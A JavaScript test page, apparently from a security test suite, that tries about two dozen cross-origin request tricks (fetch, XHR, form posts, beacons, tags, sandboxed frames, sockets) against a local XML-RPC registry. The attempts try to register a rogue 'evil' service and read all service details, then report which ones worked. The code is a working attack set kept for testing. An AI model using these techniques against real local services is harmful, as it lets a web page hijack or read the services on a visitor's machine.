// What a hostile page can try against a registry on its visitor's machine. Runs in the page: `target` is the registry's
// door, `report` takes what came of each try, `next` is the page to go to then. Each request says in its query what it is.
const { target, report, next, from } = JSON.parse(document.querySelector('#task').textContent);

const CALL = `<?xml version="1.0"?><methodCall><methodName>register</methodName><params>
<param><value>evil</value></param><param><value>127.0.0.1</value></param><param><value><int>6666</int></value></param>
</params></methodCall>`;
const READ = '<?xml version="1.0"?><methodCall><methodName>get_all_service_details</methodName></methodCall>';

const at = (attack, path = '/RPC2') => `${target}${path}?from=${from}&attack=${attack}`;
const post = (attack, body, type, options = {}) =>
  fetch(at(attack), {
    method: 'POST',
    body,
    ...(type && { headers: { 'Content-Type': type } }),
    ...options,
  }).then(async (response) => `${response.type} ${response.status} ${await response.text()}`);
const simple = (attack, body, type, options) => post(attack, body, type, { mode: 'no-cors', ...options });
const nothing = () => new Blob([CALL]);

/** Resolves when an element that asks for something has it, or has failed. */
const element = (name, members) =>
  new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), members);
    made.onload = () => resolve('loaded');
    made.onerror = () => resolve('failed');
    document.body.append(made);
  });

const request = (attack, type) =>
  new Promise((resolve) => {
    const xhr = new XMLHttpRequest();
    xhr.open('POST', at(attack));
    xhr.setRequestHeader('Content-Type', type);
    xhr.onloadend = () => resolve(`${xhr.status} ${xhr.responseText}`);
    xhr.send(CALL);
  });

/** `name=value` is the body of a text/plain form: the equals sign of the declaration parts them. */
const form = (attack, enctype, referrer = '') =>
  new Promise((resolve) => {
    const frame = Object.assign(document.createElement('iframe'), { name: attack });
    document.body.append(frame);
    const [name, ...value] = CALL.split('=');
    const sent = Object.assign(document.createElement('form'), {
      method: 'post',
      action: at(attack),
      enctype,
      target: attack,
    });
    if (referrer) sent.rel = referrer;
    sent.append(
      Object.assign(document.createElement('input'), { type: 'hidden', name, value: value.join('=') }),
    );
    document.body.append(sent);
    frame.onload = () => {
      if (frame.dataset.sent) resolve(textOf(frame));
    };
    frame.dataset.sent = 'yes';
    sent.submit();
  });

const textOf = (frame) => {
  try {
    return `read ${frame.contentDocument.body.innerText}`;
  } catch (error) {
    return String(error);
  }
};

/** A frame whose origin is none. */
const sandbox = (attack) =>
  new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data));
    const options = `{ method: 'POST', mode: 'no-cors', body: new Blob([${JSON.stringify(CALL)}]) }`;
    const tell = "(outcome) => parent.postMessage(String(outcome), '*')";
    const srcdoc = `<script>fetch(${JSON.stringify(at(attack))}, ${options}).then(({ type }) => type).then(${tell}, ${tell})</script>`;
    document.body.append(
      Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts', srcdoc }),
    );
  });

const socket = (attack) =>
  new Promise((resolve) => {
    const opened = new WebSocket(at(attack).replace('http:', 'ws:'));
    opened.onopen = () => resolve('opened');
    opened.onerror = () => resolve('failed');
  });

const events = (attack) =>
  new Promise((resolve) => {
    const source = new EventSource(at(attack));
    source.onmessage = ({ data }) => resolve(`read ${data}`);
    source.onerror = () => {
      source.close();
      resolve('failed');
    };
  });

const ATTACKS = {
  'fetch-text-plain': (attack) => simple(attack, CALL, 'text/plain'),
  'fetch-form': (attack) => simple(attack, CALL, 'application/x-www-form-urlencoded'),
  'fetch-no-type': (attack) => simple(attack, nothing()),
  'fetch-no-referrer': (attack) => simple(attack, nothing(), undefined, { referrerPolicy: 'no-referrer' }),
  'fetch-keepalive': (attack) => simple(attack, nothing(), undefined, { keepalive: true }),
  'fetch-text-xml': (attack) => post(attack, CALL, 'text/xml'),
  'fetch-application-xml': (attack) => post(attack, CALL, 'application/xml'),
  'fetch-to-read': (attack) => post(attack, READ, 'text/plain'),
  'fetch-to-read-no-type': (attack) => post(attack, new Blob([READ])),
  'get-to-read': (attack) => fetch(at(attack, '/')).then((response) => response.text()),
  'xhr-text-xml': (attack) => request(attack, 'text/xml'),
  'xhr-text-plain': (attack) => request(attack, 'text/plain'),
  'form-text-plain': (attack) => form(attack, 'text/plain'),
  'form-no-referrer': (attack) => form(attack, 'text/plain', 'noreferrer'),
  'form-multipart': (attack) => form(attack, 'multipart/form-data'),
  'beacon-text': (attack) => String(navigator.sendBeacon(at(attack), CALL)),
  'beacon-no-type': (attack) => String(navigator.sendBeacon(at(attack), nothing())),
  'beacon-xml': (attack) => String(navigator.sendBeacon(at(attack), new Blob([CALL], { type: 'text/xml' }))),
  image: (attack) => element('img', { src: at(attack) }),
  script: (attack) => element('script', { src: at(attack) }),
  style: (attack) => element('link', { rel: 'stylesheet', href: at(attack) }),
  sandbox,
  socket,
  events,
};

const outcomes = Object.entries(ATTACKS).map(async ([attack, run]) => {
  try {
    return [attack, await run(attack)];
  } catch (error) {
    return [attack, String(error)];
  }
});
Promise.all(outcomes).then(async (list) => {
  await fetch(report, {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify({ from, outcomes: Object.fromEntries(list) }),
  });
  if (next) location.href = next;
});
